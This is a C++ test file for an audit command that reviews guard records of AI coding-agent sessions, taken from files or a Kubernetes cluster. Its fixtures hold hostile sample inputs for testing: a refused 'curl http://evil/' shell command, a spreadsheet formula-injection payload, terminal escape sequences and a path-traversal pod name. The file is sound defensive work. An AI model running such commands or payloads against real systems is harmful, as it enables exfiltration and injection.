// `palisade audit` on records that guard's own code wrote, and on what somebody else made of them.
#include "audit.h"

#include <chrono>
#include <cstdlib>

#include <guard/record.h>
#include <nlohmann/json.hpp>

#include "cli/program.h"
#include "kube/scripted_server.h"

namespace palisade::cli {
namespace {

using nlohmann::json;
using testing::has;
using namespace std::chrono_literals;

const guard::Process kAider{.pid = 10, .parent = 1, .program = "/usr/bin/python3.11"};
const guard::Process kShell{.pid = 11, .parent = 10, .program = "/bin/sh"};

guard::ExecStarted exec(pid_t pid, pid_t parent, std::vector<std::string> argv) {
  return {.by = {.pid = pid, .parent = parent, .program = "/usr/bin/python3.11"},
          .requested = argv[0],
          .resolved = "/usr/bin/" + argv[0],
          .sha256 = std::string(64, 'a'),
          .argv = std::move(argv),
          .argv_bytes = 0,
          .argv_sha256 = "",
          .cwd = "/workspace"};
}

guard::Refused refusal(const guard::Process& by, bool enforced = true) {
  return {.by = by,
          .rule = "exec.allow",
          .call = "execve",
          .target = "/usr/bin/curl",
          .argv = {"curl", "http://evil/"},
          .error = EACCES,
          .enforced = enforced};
}

// Lines as guard writes them, a second apart.
std::string record(const std::vector<guard::Event>& events, std::uint64_t first = 1,
                   std::uint64_t dropped = 0) {
  std::string out;
  for (const guard::Event& event : events) {
    out += guard::line_of(event, {.sequence = first,
                                  .dropped = std::exchange(dropped, 0),
                                  .now = std::chrono::system_clock::time_point(1'700'000'000s) +
                                         std::chrono::seconds(first),
                                  .workspace = "team-a/fix",
                                  .host = "fix-agent"});
    out += '\n';
    ++first;
  }
  return out;
}

std::vector<guard::Event> session() {
  return {
      guard::SessionStarted{
          .argv = {"aider", "--model", "x"}, .degraded = {"mdwe"}, .enforcing = true},
      exec(10, 1, {"aider", "--model", "x"}),
      exec(11, 10, {"sh", "-c", "make; curl http://evil/"}),
      exec(12, 11, {"make", "all"}),
      guard::ScriptRun{.by = {.pid = 12, .parent = 11, .program = "/usr/bin/make"},
                       .path = "/workspace/run.py",
                       .sha256 = std::string(64, 'b'),
                       .written = {},
                       .changed = std::chrono::system_clock::time_point(1'700'000'004'321ms),
                       .written_by = "python3.11"},
      guard::ExecEnded{.pid = 12, .program = "/usr/bin/make", .took = 1500ms, .status = 2 << 8},
      refusal(kShell),
      guard::ExecEnded{.pid = 11, .program = "/bin/sh", .took = 2s, .status = 126 << 8},
      guard::Connected{.by = kAider, .address = "127.0.0.1", .port = 4000, .error = 0},
      guard::Finding{.by = kAider, .id = "git.global-config", .message = "git config --global"},
      guard::ExecEnded{.pid = 10, .program = "/usr/bin/python3.11", .took = 60s, .status = 0},
      guard::SessionEnded{.why = "exited", .status = 0, .killed = 1},
  };
}

class Audit : public testing::ProgramTest {};

TEST_F(Audit, ASessionAsATree) {
  write("record.jsonl", record(session()));
  const auto result = run("audit --file record.jsonl");
  EXPECT_EQ(result.status, 1) << result.err;
  EXPECT_EQ(result.err, "");
  EXPECT_EQ(
      result.out,
      "2023-11-14T22:13:21.000Z  session team-a/fix: aider --model x  (this kernel lacks mdwe)\n"
      "2023-11-14T22:13:22.000Z  [10] aider --model x  /usr/bin/aider (exit 0, 1m0s)\n"
      "2023-11-14T22:13:23.000Z    [11] sh -c 'make; curl http://evil/'  /usr/bin/sh (exit 126, "
      "2.0s)\n"
      "2023-11-14T22:13:24.000Z      [12] make all  /usr/bin/make (exit 2, 1.5s)\n"
      "2023-11-14T22:13:25.000Z        runs a file of this session: /workspace/run.py (written "
      "2023-11-14T22:13:24.321Z while there ran: python3.11; SHA-256 " +
          std::string(64, 'b') +
          ")\n"
          "2023-11-14T22:13:27.000Z      REFUSED exec.allow: execve /usr/bin/curl  curl "
          "http://evil/ (EACCES)\n"
          "2023-11-14T22:13:29.000Z    connected to 127.0.0.1:4000\n"
          "2023-11-14T22:13:30.000Z    FINDING git.global-config: git config --global\n"
          "2023-11-14T22:13:32.000Z  the session ended: exited, exit 0, 1 process was still there\n"
          "3 programs, 1 refusal, 1 connection, 1 finding, 1 file of the session run\n"
          "the session took 11.0s\n");
}

TEST_F(Audit, FromASessionsFolderOfAnArchive) {
  const std::string lines = record({exec(10, 1, {"aider"})});
  std::filesystem::create_directories(folder_ / "archive/team-a/fix/uid/pod-1");
  write("archive/team-a/fix/uid/pod-1/record.jsonl", lines);
  for (const char* place : {"archive/team-a/fix/uid/pod-1", "archive/team-a/fix", "archive"}) {
    const auto result = run(std::string("audit -o json --file ") + place);
    EXPECT_EQ(result.status, 0) << result.err;
    EXPECT_EQ(result.out, lines) << place;
  }
  // Each session has a record of its own.
  std::filesystem::create_directories(folder_ / "archive/team-a/fix/uid/pod-2");
  write("archive/team-a/fix/uid/pod-2/record.jsonl", lines);
  const auto two = run("audit --file archive/team-a/fix");
  EXPECT_EQ(two.status, 2);
  EXPECT_TRUE(has(two.err, "holds 2 records; name one session's folder:")) << two.err;
  EXPECT_TRUE(has(two.err, "\n  archive/team-a/fix/uid/pod-2\n")) << two.err;
  std::filesystem::create_directory(folder_ / "empty");
  const auto none = run("audit --file empty");
  EXPECT_EQ(none.status, 2);
  EXPECT_TRUE(has(none.err, "empty holds 0 records; name a session's folder")) << none.err;
}

TEST_F(Audit, FromStandardInputAndWithNothingToSay) {
  const auto quiet = run("audit --file -", record({exec(10, 1, {"aider"})}));
  EXPECT_EQ(quiet.status, 0) << quiet.err;
  EXPECT_TRUE(has(quiet.out, "the session's end is not on record")) << quiet.out;
  const auto empty = run("audit --file -", "");
  EXPECT_EQ(empty.status, 0);
  EXPECT_TRUE(has(empty.err, "the record is empty")) << empty.err;
  const auto audited = run("audit --file -", record({refusal(kShell, false)}));
  EXPECT_EQ(audited.status, 1);
  EXPECT_TRUE(has(audited.out, "WOULD BE REFUSED exec.allow")) << audited.out;
  EXPECT_TRUE(has(audited.out, "1 that would be refused")) << audited.out;
}

TEST_F(Audit, JsonIsTheLinesThemselves) {
  const std::string lines = record(session());
  const auto result = run("audit --file - -o json", lines);
  EXPECT_EQ(result.status, 1);
  EXPECT_EQ(result.out, lines);
}

TEST_F(Audit, CsvForSpreadsheets) {
  guard::ExecStarted formula = exec(10, 1, {"=cmd|' /C calc'!A0", "say \"hi\", there"});
  formula.resolved = "@SUM(A1)";
  const auto result = run("audit --file - -o csv", record({formula, refusal(kShell)}));
  EXPECT_EQ(result.status, 1);
  std::istringstream lines(result.out);
  std::string names;
  std::string first;
  std::string second;
  ASSERT_TRUE(std::getline(lines, names) && std::getline(lines, first) &&
              std::getline(lines, second));
  EXPECT_TRUE(names.starts_with("sequence,time,event,pid,parent,program,command,")) << names;
  EXPECT_TRUE(has(first, "1,2023-11-14T22:13:21.000Z,ExecStarted,10,1,\"'@SUM(A1)\",")) << first;
  EXPECT_TRUE(has(first, "say \"\"hi\"\", there")) << first;
  EXPECT_TRUE(has(second, ",\"exec.allow\",\"execve\",\"/usr/bin/curl\",\"EACCES\",true,,,"))
      << second;
}

TEST_F(Audit, TextsOfTheAgentMoveNoCursor) {
  json line = json::parse(record({exec(10, 1, {"x"})}));
  line["process"]["cmd_line"] = "a\x1b[2J\xE2\x80\xAE\nb\xF3\xA0\x81\xA1";
  line["process"]["file"]["path"] = "/tmp/\x1b]0;x\x07";
  for (const char* format : {"tree", "csv", "json"}) {
    const auto result = run(std::string("audit --file - -o ") + format, line.dump() + "\n");
    EXPECT_EQ(result.status, 0) << result.err;
    for (const char* bad : {"\x1b", "\x07", "\xE2\x80\xAE", "\xF3\xA0\x81\xA1"})
      EXPECT_FALSE(has(result.out, bad)) << format;
    EXPECT_EQ(std::ranges::count(result.out, '\n'), format == std::string("json")  ? 1
                                                    : format == std::string("csv") ? 2
                                                                                   : 3);
  }
}

TEST_F(Audit, LinesThatAreMissingOrBroken) {
  const std::string good = record({exec(10, 1, {"aider"})});
  struct Case {
    const char* name;
    std::string text;
    std::string err;
    int status;
  };
  const std::string deep = std::string(30'000, '[') + std::string(30'000, ']');
  json huge = json::parse(good);
  huge["metadata"]["sequence"] = 0;
  json other = json::parse(good);
  other["metadata"]["product"]["name"] = "else";
  json kind = json::parse(good);
  kind["unmapped"]["palisade"]["event"] = "Surprise";
  json type = json::parse(good);
  type["process"]["pid"] = "10";
  json negative = json::parse(good);
  negative["process"]["pid"] = -10;
  json shape = json::parse(good);
  shape["process"] = json::array();
  json time = json::parse(good);
  time["time"] = 1e300;
  const std::vector<Case> cases{
      {"no JSON", good + "{\n", "line 2: it is no JSON", 2},
      {"cut", good + good.substr(0, 50), "line 2: it is no JSON", 2},
      {"not UTF-8", "{\"a\":\"\xFF\"}\n" + good, "line 1: it is no JSON", 2},
      {"no object", "[1]\n" + good, "line 1: it is no JSON object", 2},
      {"deep", deep + "\n" + good, "line 1: it is no JSON object", 2},
      {"too long", std::string(100'000, 'x') + "\n" + good, "line 1: it is longer than 64 KiB", 2},
      {"number", huge.dump() + "\n", "line 1: its number or its time cannot be", 2},
      {"time", time.dump() + "\n", "line 1: time is no number", 2},
      {"product", other.dump() + "\n", "line 1: another product wrote it", 2},
      {"event", kind.dump() + "\n", "line 1: its event is not known", 2},
      {"type", type.dump() + "\n", "line 1: pid is no number", 2},
      {"negative", negative.dump() + "\n", "line 1: pid is negative", 2},
      {"shape", shape.dump() + "\n", "line 1: pid has no object around it", 2},
      {"nothing of it", "{}\n", "line 1: ", 2},
      {"a gap", good + record({exec(11, 10, {"x"})}, 5), "line 2: 3 lines before it are missing",
       2},
      {"no beginning", record({exec(11, 10, {"x"})}, 5),
       "the first 4 lines of the record are not there", 0},
      {"the same again", good + good + record({exec(11, 10, {"x"})}, 2), "", 0},
      {"what was dropped", record({exec(11, 10, {"x"})}, 1, 7), "", 0},
  };
  for (const Case& one : cases) {
    const auto result = run("audit --file -", one.text);
    EXPECT_EQ(result.status, one.status) << one.name << ": " << result.err << result.out;
    EXPECT_TRUE(one.err.empty() ? result.err.empty() : has(result.err, one.err))
        << one.name << ": " << result.err;
  }
  EXPECT_TRUE(has(run("audit --file -", cases.back().text).out, "7 not recorded one by one"));
  // Many problems are told of briefly.
  std::string many;
  for (int i = 0; i < 1000; ++i)
    many += "x\n";
  const auto result = run("audit --file -", many);
  EXPECT_EQ(std::ranges::count(result.err, '\n'), 11) << result.err;
  EXPECT_TRUE(has(result.err, "990 more lines with problems")) << result.err;
}

TEST_F(Audit, CommandLinesThatCannotBe) {
  for (const char* arguments : {"audit", "audit x --file y", "audit --file y --follow",
                                "audit --file y -n z", "audit x -o xml", "audit ''"})
    EXPECT_EQ(run(arguments).status, 2) << arguments;
  const auto gone = run("audit --file nowhere.jsonl");
  EXPECT_EQ(gone.status, 2);
  EXPECT_TRUE(has(gone.err, "cannot read nowhere.jsonl")) << gone.err;
}

TEST(AuditTree, ManyProcessesDeepInOneAnother) {
  AuditTree tree;
  for (int i = 0; i < 5'000; ++i) {
    AuditEvent event;
    event.pid = i + 2;
    event.parent = i + 1;
    EXPECT_EQ(tree.add(event), static_cast<std::size_t>(i));
  }
  std::ostringstream out;
  tree.print(out);
  EXPECT_LT(out.str().size(), 2'000'000U);
}

TEST(AuditTree, AProcessNumberThatIsUsedAgain) {
  AuditTree tree;
  const auto started = [&](std::int64_t pid, std::int64_t parent) {
    AuditEvent event;
    event.pid = pid;
    event.parent = parent;
    return tree.add(event);
  };
  EXPECT_EQ(started(2, 1), 0U);
  EXPECT_EQ(started(3, 2), 1U);
  EXPECT_EQ(started(3, 2), 2U);  // the same process runs another program
  AuditEvent end;
  end.kind = AuditKind::exec_ended;
  end.pid = 3;
  EXPECT_EQ(tree.add(end), 2U);
  EXPECT_EQ(started(4, 2), 1U);
  EXPECT_EQ(started(4, 1), 0U);  // another one: its end was not on record
}

TEST(AuditText, Durations) {
  EXPECT_EQ(audit_duration(0), "0us");
  EXPECT_EQ(audit_duration(999), "999us");
  EXPECT_EQ(audit_duration(1'000), "1ms");
  EXPECT_EQ(audit_duration(1'250'000), "1.2s");
  EXPECT_EQ(audit_duration(61'000'000), "1m1s");
  EXPECT_EQ(audit_duration(7'260'000'000), "2h1m");
}

// An API server that has one workspace, and does with its log what the test says.
class AuditOfCluster : public testing::ProgramTest {
 protected:
  using Log = std::function<void(scripted::Peer&, const std::string& target, int number)>;

  void serve(Log log) {
    server_ = std::make_unique<scripted::Server>(
        scripted::Options{}, [this, log = std::move(log)](scripted::Peer& peer, int) {
          for (std::string request; !(request = peer.read_request()).empty();) {
            const std::string target = request.substr(4, request.find(' ', 4) - 4);
            server_->note(target);
            if (target == "/apis/palisade.dev/v1alpha1/namespaces/team-a/agentworkspaces/fix") {
              peer.respond(json{{"apiVersion", "palisade.dev/v1alpha1"},
                                {"kind", "AgentWorkspace"},
                                {"metadata", {{"name", "fix"}, {"namespace", "team-a"}}},
                                {"status", status_}}
                               .dump(),
                           "200 OK", "Content-Type: application/json\r\n");
            } else if (target.find("/log?") != std::string::npos) {
              log(peer, target, ++logs_);
            } else {
              refuse(peer, 404, "NotFound", "not found");
            }
          }
        });
    write("kubeconfig.json",
          json{{"apiVersion", "v1"},
               {"kind", "Config"},
               {"current-context", "c"},
               {"clusters", {{{"name", "c"}, {"cluster", {{"server", server_->url()}}}}}},
               {"users", {{{"name", "u"}, {"user", json::object()}}}},
               {"contexts", {{{"name", "c"}, {"context", {{"cluster", "c"}, {"user", "u"}}}}}}}
              .dump());
  }
  static void refuse(scripted::Peer& peer, int code, const std::string& reason,
                     const std::string& message) {
    peer.respond(json{{"apiVersion", "v1"},
                      {"kind", "Status"},
                      {"status", "Failure"},
                      {"reason", reason},
                      {"message", message},
                      {"code", code}}
                     .dump(),
                 std::to_string(code) + " " + reason, "Content-Type: application/json\r\n");
  }
  static void chunk(scripted::Peer& peer, const std::string& bytes) {
    std::array<char, 16> size{};
    std::snprintf(size.data(), size.size(), "%zx\r\n", bytes.size());
    peer.write(size.data() + bytes + "\r\n");
  }
  static void begin(scripted::Peer& peer) {
    peer.write("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\n\r\n");
  }
  testing::Result audit(const std::string& arguments) const {
    return run("audit --kubeconfig kubeconfig.json " + arguments);
  }

  json status_ = {{"podName", "fix-agent"}};
  std::atomic<int> logs_ = 0;
  std::unique_ptr<scripted::Server> server_;
};

TEST_F(AuditOfCluster, TheRecordersLogIsTheRecord) {
  const std::string lines = record(session());
  serve([&](scripted::Peer& peer, const std::string&, int) { peer.respond(lines); });
  const auto result = audit("fix -n team-a -o json");
  EXPECT_EQ(result.status, 1) << result.err;
  EXPECT_EQ(result.out, lines);
  EXPECT_EQ(server_->notes().back(),
            "/api/v1/namespaces/team-a/pods/fix-agent/log?container=recorder");
}

TEST_F(AuditOfCluster, FollowsLineByLineAcrossALostConnection) {
  const std::string lines = record(session());
  serve([&](scripted::Peer& peer, const std::string& target, int number) {
    EXPECT_TRUE(target.ends_with("?container=recorder&follow=true")) << target;
    begin(peer);
    if (number == 1) {
      // Cut in the middle of the third line.
      const std::size_t middle = lines.find('\n', lines.find('\n') + 1) + 40;
      for (std::size_t at = 0; at < middle; at += 100)
        chunk(peer, lines.substr(at, std::min<std::size_t>(100, middle - at)));
      peer.cut();
      return;
    }
    chunk(peer, lines);
    chunk(peer, "");
  });
  const auto result = audit("fix -n team-a --follow");
  EXPECT_EQ(result.status, 1) << result.err;
  EXPECT_EQ(result.err, "");
  EXPECT_EQ(logs_, 2);
  EXPECT_TRUE(has(result.out, "[11] sh -c")) << result.out;
  EXPECT_TRUE(has(result.out, "[12] ended (exit 2, 1.5s)")) << result.out;
  EXPECT_TRUE(has(result.out, "the session ended: exited")) << result.out;
  const std::size_t first = result.out.find("[10] aider");
  EXPECT_EQ(result.out.find("[10] aider", first + 1), std::string::npos) << result.out;
}

// The second line is written only once the first one has been read.
TEST_F(AuditOfCluster, FollowsAsItHappens) {
  const std::string lines = record(session());
  const std::size_t second = lines.find('\n', lines.find('\n') + 1) + 1;
  std::atomic<bool> seen = false;
  for (const std::string format : {"tree", "json"}) {
    seen = false;
    const std::string first = format == "tree" ? "[10] aider --model x" : "\"pid\":10,";
    serve([&](scripted::Peer& peer, const std::string&, int) {
      begin(peer);
      chunk(peer, lines.substr(0, second));
      const auto until = std::chrono::steady_clock::now() + 20s;
      while (!seen && std::chrono::steady_clock::now() < until) {
        seen = has(slurp(folder_ / "shown"), first);
        std::this_thread::sleep_for(5ms);
      }
      EXPECT_FALSE(has(slurp(folder_ / "shown"), "make all")) << "it was not sent yet";
      chunk(peer, lines.substr(second));
      chunk(peer, "");
    });
    const auto result = audit("fix -n team-a --follow -o " + format + " >shown");
    EXPECT_EQ(result.status, 1) << result.err;
    EXPECT_TRUE(seen) << format << ": what came first was not shown while the session went on";
    EXPECT_TRUE(has(slurp(folder_ / "shown"), "make all")) << format;
    std::filesystem::remove(folder_ / "shown");
  }
}

TEST_F(AuditOfCluster, WhatGoesWrongIsSaidWithTheFix) {
  struct Case {
    int code;
    std::string reason;
    std::string message;
    std::string said;
  };
  for (const Case& one : std::vector<Case>{
           {404, "NotFound", "pods \"fix-agent\" not found", "its record went with it"},
           {400, "BadRequest", "container \"recorder\" is waiting to start",
            "once the pod has started"},
           {403, "Forbidden", "no", "kubectl auth can-i get pods/log"},
           {500, "InternalError", "\x1b[2J no", "get pods/log"}}) {
    serve([&](scripted::Peer& peer, const std::string&, int) {
      refuse(peer, one.code, one.reason, one.message);
    });
    const auto result = audit("fix -n team-a");
    EXPECT_EQ(result.status, 2) << result.out;
    EXPECT_TRUE(has(result.err, one.said)) << result.err;
    EXPECT_FALSE(has(result.err, "\x1b")) << result.err;
  }
  // Where there is an archive, it is said where the record is.
  status_["archive"] = {{"location", "pvc://gw/kept/team-a/fix/uid\x1b[2J"}};
  serve([&](scripted::Peer& peer, const std::string&, int) {
    refuse(peer, 404, "NotFound", "gone");
  });
  const auto kept = audit("fix -n team-a");
  EXPECT_EQ(kept.status, 2);
  EXPECT_TRUE(has(kept.err, "its record is kept in pvc://gw/kept/team-a/fix/uid")) << kept.err;
  EXPECT_FALSE(has(kept.err, "\x1b")) << kept.err;
  const auto nobody = audit("other -n team-a");
  EXPECT_EQ(nobody.status, 2);
  EXPECT_TRUE(has(nobody.err, "there is no AgentWorkspace other in team-a")) << nobody.err;
}

TEST_F(AuditOfCluster, AConnectionThatIsLostAtOnceIsNotTriedForEver) {
  serve([&](scripted::Peer& peer, const std::string&, int) { peer.cut(); });
  const auto result = audit("fix -n team-a");
  EXPECT_EQ(result.status, 2);
  EXPECT_TRUE(has(result.err, "is the cluster up")) << result.err;
}

TEST_F(AuditOfCluster, ThePodsNameIsTheStatussElseTheWorkspaces) {
  status_ = {{"podName", ""}};
  serve([&](scripted::Peer& peer, const std::string&, int) { peer.respond(""); });
  EXPECT_EQ(audit("fix -n team-a").status, 0);
  EXPECT_TRUE(has(server_->notes().back(), "/pods/fix-agent/log"));
  status_ = {{"podName", "a/../b"}};
  EXPECT_EQ(audit("fix -n team-a").status, 0);
  EXPECT_TRUE(has(server_->notes().back(), "/pods/a%2F..%2Fb/log")) << server_->notes().back();
}

}  // namespace
}  // namespace palisade::cli
